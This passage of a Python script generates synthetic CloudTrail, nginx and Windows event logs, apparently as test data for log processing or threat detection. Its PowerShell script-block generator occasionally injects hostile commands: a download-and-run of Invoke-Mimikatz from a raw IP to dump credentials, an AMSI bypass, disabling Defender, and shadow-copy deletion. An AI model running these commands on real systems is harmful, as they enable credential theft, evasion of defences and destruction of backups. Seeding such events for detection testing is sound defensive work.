             "TargetOutboundDomainName": "-", "VirtualAccount": "%%1843", "TargetLinkedLogonId": "0x0", "ElevatedToken": choice(["%%1842", "%%1843"])}
        return self.security(h, 4624, d, 12544)

    def special_privileges(self, h):
        d = {"SubjectUserSid": "S-1-5-18", "SubjectUserName": "SYSTEM", "SubjectDomainName": "NT AUTHORITY", "SubjectLogonId": "0x3e7",
             "PrivilegeList": "SeAssignPrimaryTokenPrivilege\r\n\t\t\tSeTcbPrivilege\r\n\t\t\tSeSecurityPrivilege\r\n\t\t\tSeTakeOwnershipPrivilege\r\n\t\t\tSeLoadDriverPrivilege\r\n\t\t\tSeBackupPrivilege\r\n\t\t\tSeRestorePrivilege\r\n\t\t\tSeDebugPrivilege\r\n\t\t\tSeAuditPrivilege\r\n\t\t\tSeSystemEnvironmentPrivilege\r\n\t\t\tSeImpersonatePrivilege\r\n\t\t\tSeDelegateSessionUserImpersonatePrivilege"}
        return self.security(h, 4672, d, 12548, version=0)

    def security_process(self, h):
        ev = self.process_creation(h)["Event"]["EventData"]
        d = {"SubjectUserSid": h.sid, "SubjectUserName": h.user, "SubjectDomainName": WIN_DOMAIN, "SubjectLogonId": h.logon_id,
             "NewProcessId": "0x%x" % ev["ProcessId"], "NewProcessName": ev["Image"], "TokenElevationType": "%%1938",
             "ProcessId": "0x%x" % ev["ParentProcessId"], "CommandLine": ev["CommandLine"], "TargetUserSid": "S-1-0-0",
             "TargetUserName": "-", "TargetDomainName": "-", "TargetLogonId": "0x0", "ParentProcessName": ev["ParentImage"],
             "MandatoryLabel": "S-1-16-8192"}
        return self.security(h, 4688, d, 13312)

    def script_block(self, h):
        text = choice(["prompt", "$global:?", "Get-ChildItem -Path C:\\Users -Filter *.log -Recurse | Remove-Item -WhatIf",
                       "Import-Module -Name Microsoft.PowerShell.Management", "{ Set-StrictMode -Version 1; $_.PSMessageDetails }",
                       "Get-Service | Where-Object { $_.Status -eq 'Running' } | Select-Object -First 5",
                       "$ErrorActionPreference = 'Stop'\r\n$log = Join-Path $env:ProgramData 'Acme\\inventory.log'\r\nGet-CimInstance Win32_OperatingSystem | Select-Object Caption, Version | Out-File $log -Append"])
        if rand() < 0.01:
            text = choice(["IEX (New-Object Net.WebClient).DownloadString('http://185.220.101.47/Invoke-Mimikatz.ps1'); Invoke-Mimikatz -DumpCreds",
                           "Set-MpPreference -DisableRealtimeMonitoring $true",
                           "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)",
                           "Get-WmiObject Win32_Shadowcopy | ForEach-Object {$_.Delete();}",
                           "Invoke-ShareFinder -CheckShareAccess"])
        sys_ = self.system(h, PS_PROVIDER, 4104, 1, 5, 2, 15, "0x0", "Microsoft-Windows-PowerShell/Operational", 5412, randrange(700, 9000),
                           {"#attributes": {"UserID": h.sid}})
        sys_["Correlation"] = {"#attributes": {"ActivityID": "{%s}" % uuid4().upper()}}
        d = {"MessageNumber": 1, "MessageTotal": 1, "ScriptBlockText": text, "ScriptBlockId": uuid4(),
             "Path": "" if rand() < .7 else "C:\\Program Files (x86)\\Microsoft Intune Management Extension\\Policies\\Scripts\\%s.ps1" % uuid4()}
        return {"Event": {"#attributes": XMLNS, "System": sys_, "EventData": d}}


WIN_KINDS = None


def win_setup(clock):
    global WIN_KINDS, HOSTS, EXT_IPS
    HOSTS = make_hosts()
    EXT_IPS = [public_ip() for _ in range(3000)]
    w = Win(clock)
    WIN_KINDS = Weighted([(w.process_creation, 48), (w.network, 11), (w.terminate, 7), (w.image_load, 8), (w.process_access, 3),
                          (w.file_create, 7), (w.registry, 6), (w.dns, 4), (w.file_delete, 1),
                          (lambda h: w.logon(h), 2), (lambda h: w.logon(h, True), 0.5), (w.special_privileges, 0.5),
                          (w.security_process, 1), (w.script_block, 1)])


def windows_event(clock):
    clock.tick()
    return dumps(WIN_KINDS.pick()(choice(HOSTS)))


# --------------------------------------------------------------------------

def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("kind", choices=["cloudtrail", "nginx", "windows"])
    ap.add_argument("--mb", type=float, required=True, help="size to write, MiB")
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--out", default="-")
    a = ap.parse_args()
    R.seed("%s:%d" % (a.kind, a.seed))
    if a.kind == "cloudtrail":
        ct_setup()
        clock, make = Clock(START, 40.0), cloudtrail_event
    elif a.kind == "nginx":
        CLIENTS.extend(client_pools())
        SCANNERS.extend(public_ip() for _ in range(300))
        clock, make = Clock(START, 60.0), nginx_line
    else:
        clock = Clock(START, 50.0)
        win_setup(clock)
        make = windows_event
    limit = int(a.mb * 1024 * 1024)
    out = sys.stdout.buffer if a.out == "-" else open(a.out, "wb")
    written = 0
    batch = []
    blen = 0
    while written < limit:
        line = make(clock).encode("utf-8") + b"\n"
        batch.append(line)
        blen += len(line)
        if blen >= 1 << 20:
            out.write(b"".join(batch))
            written += blen
            batch, blen = [], 0
    if batch:
        out.write(b"".join(batch))
    out.flush()
    if out is not sys.stdout.buffer:
        out.close()


if __name__ == "__main__":
    main()
